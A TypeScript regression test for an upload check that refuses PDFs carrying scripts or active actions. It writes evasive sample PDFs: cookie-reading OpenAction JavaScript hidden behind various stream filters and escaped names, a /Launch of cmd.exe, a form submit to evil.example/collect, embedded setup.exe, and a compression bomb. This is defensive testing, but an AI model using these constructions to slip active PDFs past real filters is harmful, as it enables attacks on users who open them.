/*
 * Finding 15 (issue 33, part 4): "A PDF whose /OpenAction JavaScript sits in an ASCIIHexDecode
 * object stream passes the upload check." The check was a regular expression over the file's bytes
 * and over the Flate streams it could inflate, so a script behind any other filter went unseen.
 *
 * The check now reads the PDF's objects with pdf-lib's parser, wherever they are in the file and
 * in its object streams, decoded whatever their filters, and refuses scripts and the actions and
 * attachments that run or open something (PDF_SCRIPT_REFUSED); a PDF it cannot read whole
 * (encrypted object streams, a filter it does not know, a broken object, more than it decodes) is
 * refused with PDF_UNREADABLE (decision 66). Every sample below is a complete file a viewer opens.
 */
import { deflateSync } from 'node:zlib';
import PDFKit from 'pdfkit';
import { PDFDocument, PDFName } from 'pdf-lib';
import { getDocument } from 'pdfjs-dist/legacy/build/pdf.mjs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEMO_ACCOUNTS } from '../seed/demo';
import { dataUrl, pdf } from '../../test/files';
import { createTestApp, signIn, type Client, type TestApp } from '../../test/helpers';

// ---------------------------------------------------------------- writing PDFs

type Filter = 'ASCIIHexDecode' | 'ASCII85Decode' | 'FlateDecode' | 'LZWDecode' | 'RunLengthDecode' | 'JBIG2Decode';

function ascii85(data: Buffer): Buffer {
  let out = '';
  for (let i = 0; i < data.length; i += 4) {
    const group = Buffer.alloc(4);
    data.copy(group, 0, i, i + 4);
    let n = group.readUInt32BE(0);
    const size = Math.min(4, data.length - i);
    let digits = '';
    for (let k = 0; k < 5; k++, n = Math.floor(n / 85)) digits = String.fromCharCode(33 + (n % 85)) + digits;
    out += digits.slice(0, size + 1);
  }
  return Buffer.from(`${out}~>`, 'latin1');
}

/** LZW at 9 bits only: a clear code, one code a byte, the end code (small samples never reach 10 bits). */
function lzw(data: Buffer): Buffer {
  const codes = [256, ...data, 257];
  const out = Buffer.alloc(Math.ceil((codes.length * 9) / 8));
  codes.forEach((code, i) => {
    for (let bit = 0; bit < 9; bit++) if (code & (1 << (8 - bit))) out[(i * 9 + bit) >> 3]! |= 0x80 >> ((i * 9 + bit) & 7);
  });
  return out;
}

/** Literal runs of two bytes: a length byte every two, so that no name is left whole in the file. */
function runLength(data: Buffer): Buffer {
  const parts: Buffer[] = [];
  for (let i = 0; i < data.length; i += 2) {
    const run = data.subarray(i, i + 2);
    parts.push(Buffer.from([run.length - 1]), run);
  }
  return Buffer.concat([...parts, Buffer.from([128])]);
}

const ENCODERS: Record<Filter, (data: Buffer) => Buffer> = {
  ASCIIHexDecode: (data) => Buffer.from(`${data.toString('hex').replace(/(.{64})/g, '$1\n')}>`),
  ASCII85Decode: ascii85,
  FlateDecode: (data) => deflateSync(data),
  LZWDecode: lzw,
  RunLengthDecode: runLength,
  JBIG2Decode: (data) => data,
};

/** A stream object's text: its dictionary with /Filter and /Length, its data encoded so that decoding through `filters` in order gives `data` back. */
function stream(dict: string, data: Buffer, filters: Filter[] = []): Buffer {
  const encoded = filters.reduceRight((bytes, filter) => ENCODERS[filter](bytes), data);
  const filter = filters.length === 0 ? '' : filters.length === 1 ? `/Filter/${filters[0]}` : `/Filter[${filters.map((f) => `/${f}`).join('')}]`;
  return Buffer.concat([Buffer.from(`<<${dict}${filter}/Length ${encoded.length}>>stream\n`, 'latin1'), encoded, Buffer.from('\nendstream')]);
}

interface PdfSpec {
  /** objects written in the file, in this order (a number twice: both copies are written, the cross-reference names the first) */
  objects: [number, string | Buffer][];
  /** objects packed into one object stream, and its filters */
  packed?: { objects: [number, string][]; filters: Filter[] };
  /** more trailer entries */
  trailer?: string;
}

/**
 * A PDF 1.7 file as viewers read it: the objects, then a cross-reference stream giving each one's
 * offset, or its place in the object stream; the catalog is object 1.
 */
function writePdf(spec: PdfSpec): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let offset = parts[0]!.length;
  const entries = new Map<number, [type: number, field2: number, field3: number]>();
  const write = (num: number, body: string | Buffer) => {
    if (!entries.has(num)) entries.set(num, [1, offset, 0]);
    const bytes = Buffer.concat([Buffer.from(`${num} 0 obj\n`), typeof body === 'string' ? Buffer.from(body, 'latin1') : body, Buffer.from('\nendobj\n')]);
    parts.push(bytes);
    offset += bytes.length;
  };
  for (const [num, body] of spec.objects) write(num, body);
  const numbers = [...spec.objects, ...(spec.packed?.objects ?? [])].map(([num]) => num);
  let next = Math.max(...numbers) + 1;
  if (spec.packed) {
    let header = '';
    let body = '';
    const streamNumber = next++;
    spec.packed.objects.forEach(([num, text], index) => {
      header += `${num} ${body.length} `;
      body += `${text}\n`;
      entries.set(num, [2, streamNumber, index]);
    });
    write(
      streamNumber,
      stream(`/Type/ObjStm/N ${spec.packed.objects.length}/First ${header.length}`, Buffer.from(header + body, 'latin1'), spec.packed.filters),
    );
  }
  const xrefNumber = next;
  entries.set(xrefNumber, [1, offset, 0]);
  const rows = Buffer.alloc((xrefNumber + 1) * 7);
  for (let num = 0; num <= xrefNumber; num++) {
    const [type, field2, field3] = entries.get(num) ?? [0, 0, 0xffff];
    rows.writeUInt8(type, num * 7);
    rows.writeUInt32BE(field2, num * 7 + 1);
    rows.writeUInt16BE(field3, num * 7 + 5);
  }
  const xrefOffset = offset;
  write(xrefNumber, stream(`/Type/XRef/Size ${xrefNumber + 1}/W[1 4 2]/Root 1 0 R${spec.trailer ?? ''}`, rows));
  parts.push(Buffer.from(`startxref\n${xrefOffset}\n%%EOF\n`));
  return Buffer.concat(parts);
}

const PAGES: [number, string][] = [
  [2, '<</Type/Pages/Kids[3 0 R]/Count 1>>'],
  [3, '<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>'],
];
const SCRIPT = '<</S/JavaScript/JS(app.alert\\(document.cookie\\))>>';
const catalog = (extra: string) => `<</Type/Catalog/Pages 2 0 R${extra}>>`;
/** The catalog, opening the document with `action`, packed in an object stream behind `filters`. */
const packedOpenAction = (action: string, filters: Filter[]) =>
  writePdf({ objects: PAGES, packed: { objects: [[1, catalog(`/OpenAction${action}`)]], filters } });
/** A page with one annotation (object 4). */
const annotated = (annotation: string, more: [number, string | Buffer][] = []) =>
  writePdf({
    objects: [
      [1, catalog('')],
      [2, '<</Type/Pages/Kids[3 0 R]/Count 1>>'],
      [3, '<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Annots[4 0 R]>>'],
      [4, annotation],
      ...more,
    ],
  });
/** A file's bytes edited as text, the same length (the cross-reference's offsets stay right). */
const edited = (file: Buffer, edit: (text: string) => string) => Buffer.from(edit(file.toString('latin1')), 'latin1');
const embedded = stream('/Type/EmbeddedFile', Buffer.from('MZ not really a program'));

/** Rows of 4 bytes, each after a PNG "Up" predictor byte (2): what a writer with /Predictor 12 /Columns 4 stores before Flate. */
function pngUp(data: Buffer): Buffer {
  const padded = Buffer.concat([data, Buffer.alloc((4 - (data.length % 4)) % 4, 0x20)]);
  const rows: Buffer[] = [];
  for (let r = 0; r < padded.length; r += 4) {
    const row = Buffer.from([2, ...padded.subarray(r, r + 4)]);
    for (let x = 0; x < 4; x++) row[x + 1] = (padded[r + x]! - (r ? padded[r - 4 + x]! : 0)) & 0xff;
    rows.push(row);
  }
  return Buffer.concat(rows);
}
function predictedObjectStream(objects: [number, string][]): Buffer {
  let header = '';
  let body = '';
  objects.forEach(([num, text]) => {
    header += `${num} ${body.length} `;
    body += `${text}\n`;
  });
  const data = deflateSync(pngUp(Buffer.from(header + body, 'latin1')));
  const entries = objects.map(([num], index) => [num, index] as const);
  const streamObject = Buffer.concat([
    Buffer.from(
      `<</Type/ObjStm/N ${objects.length}/First ${header.length}/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 4>>/Length ${data.length}>>stream\n`,
    ),
    data,
    Buffer.from('\nendstream'),
  ]);
  // Written by hand: the catalog and its tree are in the stream (object 9), the pages outside it.
  const pdfBytes = writePdf({ objects: [...PAGES, [9, streamObject]] });
  // The cross-reference must say where the packed objects are: rewritten with type-2 entries.
  return rewriteXref(pdfBytes, new Map(entries.map(([num, index]) => [num, [2, 9, index] as [number, number, number]])));
}
/** Replaces entries of the (uncompressed) cross-reference stream writePdf wrote. */
function rewriteXref(file: Buffer, changes: Map<number, [number, number, number]>): Buffer {
  const text = file.toString('latin1');
  const start = text.lastIndexOf('/Type/XRef');
  const dataStart = text.indexOf('stream\n', start) + 'stream\n'.length;
  const out = Buffer.from(file);
  for (const [num, [type, field2, field3]] of changes) {
    out.writeUInt8(type, dataStart + num * 7);
    out.writeUInt32BE(field2, dataStart + num * 7 + 1);
    out.writeUInt16BE(field3, dataStart + num * 7 + 5);
  }
  return out;
}

/** PDFs that run a script, launch, send, import, open an embedded document or carry files, written the ways that hide them. */
function activeSamples(): Record<string, Buffer> {
  return {
    'OpenAction JavaScript in an ASCIIHexDecode object stream': packedOpenAction(SCRIPT, ['ASCIIHexDecode']),
    'OpenAction JavaScript behind ASCII85Decode then FlateDecode': packedOpenAction(SCRIPT, ['ASCII85Decode', 'FlateDecode']),
    'OpenAction JavaScript in an LZWDecode object stream': packedOpenAction(SCRIPT, ['LZWDecode']),
    'OpenAction JavaScript in a RunLengthDecode object stream': packedOpenAction(SCRIPT, ['RunLengthDecode']),
    'OpenAction JavaScript in an object stream without /Type': edited(packedOpenAction(SCRIPT, ['ASCIIHexDecode']), (text) =>
      text.replace('/Type/ObjStm', '/Kind/ObjStm'),
    ),
    'escaped names /J#61vaScript and /J#53 in an ASCIIHex object stream': packedOpenAction('<</S/J#61vaScript/J#53(app.alert\\(1\\))>>', ['ASCIIHexDecode']),
    'lower-case escapes /#4aavaScript and /#4aS in a Flate object stream': packedOpenAction('<</S/#4aavaScript/#4aS(app.alert\\(1\\))>>', ['FlateDecode']),
    'a /Names /JavaScript tree': writePdf({ objects: [[1, catalog('/Names<</JavaScript 4 0 R>>')], ...PAGES, [4, '<</Names[(init) 5 0 R]>>'], [5, SCRIPT]] }),
    'a /Names /JavaScript tree in a Flate object stream with a PNG predictor': predictedObjectStream([
      [1, catalog('/Names<</JavaScript 4 0 R>>')],
      [4, '<</Names[(init) 5 0 R]>>'],
      [5, SCRIPT],
    ]),
    'a /Launch action': writePdf({ objects: [[1, catalog('/OpenAction<</S/Launch/F(cmd.exe)>>')], ...PAGES] }),
    'a /SubmitForm action on a button': annotated(
      '<</Type/Annot/Subtype/Widget/FT/Btn/Rect[0 0 50 20]/A<</S/SubmitForm/F<</FS/URL/F(https://evil.example/collect)>>>>>>',
    ),
    'an /ImportData action': packedOpenAction('<</S/ImportData/F(data.fdf)>>', ['FlateDecode']),
    'a /GoToE action': packedOpenAction('<</S/GoToE/NewWindow true/T<</R/C/N(inner)>>>>', ['ASCII85Decode']),
    'an embedded file (/Names /EmbeddedFiles)': writePdf({
      objects: [
        [1, catalog('/Names<</EmbeddedFiles<</Names[(setup.exe) 4 0 R]>>>>')],
        ...PAGES,
        [4, '<</Type/Filespec/F(setup.exe)/EF<</F 5 0 R>>>>'],
        [5, embedded],
      ],
    }),
    'a FileAttachment annotation': annotated('<</Type/Annot/Subtype/FileAttachment/Rect[0 0 20 20]/FS 5 0 R>>', [
      [5, '<</Type/Filespec/F(notes.txt)/EF<</F 6 0 R>>>>'],
      [6, embedded],
    ]),
    'a RichMedia annotation': annotated('<</Type/Annot/Subtype/RichMedia/Rect[0 0 20 20]/RichMediaContent<<>>>>'),
    'an XFA form': writePdf({
      objects: [
        [1, catalog('/AcroForm<</Fields[]/XFA 4 0 R>>')],
        ...PAGES,
        [4, stream('', Buffer.from('<xdp:xdp><script>xfa.host.messageBox(1)</script></xdp:xdp>'), ['FlateDecode'])],
      ],
    }),
    // Two copies of the catalog: the cross-reference names the first, which a reader keeping the last never sees.
    'an earlier copy of the catalog, the one the cross-reference names': writePdf({
      objects: [[1, catalog(`/OpenAction${SCRIPT}`)], ...PAGES, [1, catalog('')]],
    }),
  };
}

/** A Flate stream of zeros that inflates far past what is read (64 MiB from about 64 KiB). */
const bomb = () =>
  writePdf({ objects: [[1, catalog('')], ...PAGES, [4, stream('/Type/ObjStm/N 1/First 4', Buffer.alloc(64 * 1024 * 1024), ['FlateDecode'])]] });

/** PDFs that cannot be read whole: refused as unreadable, not as scripted. */
function unreadableSamples(): Record<string, Buffer> {
  const encryptDict = '<</Filter/Standard/V 2/R 3/Length 128/P -4/O<' + 'ab'.repeat(32) + '>/U<' + 'cd'.repeat(32) + '>>>';
  return {
    'an encrypted file whose objects are in an object stream': writePdf({
      objects: [...PAGES, [5, encryptDict]],
      packed: { objects: [[1, catalog('')]], filters: ['FlateDecode'] },
      trailer: '/Encrypt 5 0 R/ID[<0123456789abcdef0123456789abcdef><0123456789abcdef0123456789abcdef>]',
    }),
    'an object stream behind a filter that is not for objects (JBIG2)': packedOpenAction('<</S/GoTo/D[3 0 R/Fit]>>', ['JBIG2Decode']),
    'an object stream whose Flate data is broken': edited(packedOpenAction('<</S/GoTo/D[3 0 R/Fit]>>', ['FlateDecode']), (text) =>
      text.replace(/stream\n[\s\S]{8}/, 'stream\nXXXXXXXX'),
    ),
    'a file cut in the middle of an object': Buffer.concat([pdf('cut'), Buffer.from('4 0 obj\n<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://')]),
    'a compression bomb in an object stream': bomb(),
  };
}

async function pdfkitDocument(options: PDFKit.PDFDocumentOptions = {}): Promise<Buffer> {
  const doc = new PDFKit({ size: 'A4', ...options });
  const chunks: Buffer[] = [];
  doc.on('data', (chunk: Buffer) => chunks.push(chunk));
  const done = new Promise<Buffer>((resolve) => doc.on('end', () => resolve(Buffer.concat(chunks))));
  doc.fontSize(14).text('Curriculum vitae', { link: 'https://example.org/cv' });
  doc.fontSize(10).text('Skills: TypeScript, JavaScript, JSON, SQL. '.repeat(40));
  doc.addPage().text('Second page');
  doc.end();
  return done;
}

/** PDFs as ordinary writers make them: they must still be accepted. */
async function plainSamples(): Promise<Record<string, Buffer>> {
  const made = await PDFDocument.create();
  const page = made.addPage([300, 300]);
  page.drawText('Attestation');
  made.addPage([300, 300]);
  // Opens on its first page, fitted: what office suites write (an action, but no script).
  made.catalog.set(PDFName.of('OpenAction'), made.context.obj([page.ref, PDFName.of('Fit')]));
  return {
    "the test helpers' pdf()": pdf('a CV mentioning /JSON and JavaScript skills'),
    'pdfkit output (compressed pages, a link)': await pdfkitDocument(),
    'pdfkit output with an owner password (encrypted, no object streams)': await pdfkitDocument({
      ownerPassword: 'owner',
      permissions: { printing: 'highResolution', modifying: false },
    }),
    'pdf-lib output (object streams, an OpenAction to a page)': Buffer.from(await made.save({ useObjectStreams: true })),
    'a catalog in a Flate object stream opening on a page': packedOpenAction('[3 0 R/Fit]', ['FlateDecode']),
    'a catalog behind ASCII85 then Flate': packedOpenAction('[3 0 R/Fit]', ['ASCII85Decode', 'FlateDecode']),
  };
}

// ---------------------------------------------------------------- the finding

describe('finding 15: scripts and actions behind filters in uploaded PDFs', () => {
  let t: TestApp;
  let owner: Client;
  beforeAll(async () => {
    t = await createTestApp();
    owner = (await signIn(t, DEMO_ACCOUNTS.partTime.matricule)).client;
  });
  afterAll(async () => {
    await t?.close();
  });

  const upload = (data: Buffer) => owner.post('/api/students/cv', { FILE: dataUrl('application/pdf', data) });

  it('the samples are what a viewer reads: pdf.js finds their scripts and files', async () => {
    const samples = activeSamples();
    const open = (data: Buffer) => getDocument({ data: new Uint8Array(data), isEvalSupported: false, verbosity: 0 }).promise;
    for (const name of [
      'OpenAction JavaScript in an ASCIIHexDecode object stream',
      'OpenAction JavaScript behind ASCII85Decode then FlateDecode',
      'OpenAction JavaScript in an LZWDecode object stream',
      'OpenAction JavaScript in a RunLengthDecode object stream',
      'OpenAction JavaScript in an object stream without /Type',
      'a /Names /JavaScript tree in a Flate object stream with a PNG predictor',
      'an earlier copy of the catalog, the one the cross-reference names',
    ]) {
      const doc = await open(samples[name]!);
      expect(JSON.stringify(await doc.getJSActions()), name).toContain('app.alert');
      await doc.destroy();
    }
    const withFile = await open(samples['an embedded file (/Names /EmbeddedFiles)']!);
    expect(Object.keys((await withFile.getAttachments()) ?? {})).toEqual(['setup.exe']);
    await withFile.destroy();
  });

  for (const [name, data] of Object.entries(activeSamples())) {
    it(`refuses ${name} (415 PDF_SCRIPT_REFUSED)`, async () => {
      const res = await upload(data);
      console.warn(`finding 15: ${name}: ${res.statusCode}`);
      expect(res.statusCode, res.body).toBe(415);
      expect(res.json()).toMatchObject({ code: 'PDF_SCRIPT_REFUSED', fields: { FILE: 'validation.invalid' } });
    });
  }

  for (const [name, data] of Object.entries(unreadableSamples())) {
    it(`refuses ${name}, which it cannot read whole (415 PDF_UNREADABLE)`, async () => {
      const started = performance.now();
      const res = await upload(data);
      console.warn(`finding 15: ${name}: ${res.statusCode} in ${Math.round(performance.now() - started)} ms`);
      expect(res.statusCode, res.body).toBe(415);
      expect(res.json()).toMatchObject({ code: 'PDF_UNREADABLE', fields: { FILE: 'validation.invalid' } });
      // Bounded: a bomb stops at the decoding limit, well before its 64 MiB.
      expect(performance.now() - started).toBeLessThan(10_000);
    });
  }

  it('keeps PDFs as ordinary writers make them, compressed and with object streams', async () => {
    const refused: string[] = [];
    for (const [name, data] of Object.entries(await plainSamples())) {
      const res = await upload(data);
      if (res.statusCode !== 200) refused.push(`${name}: ${res.statusCode} ${res.body}`);
    }
    expect(refused).toEqual([]);
  });
});
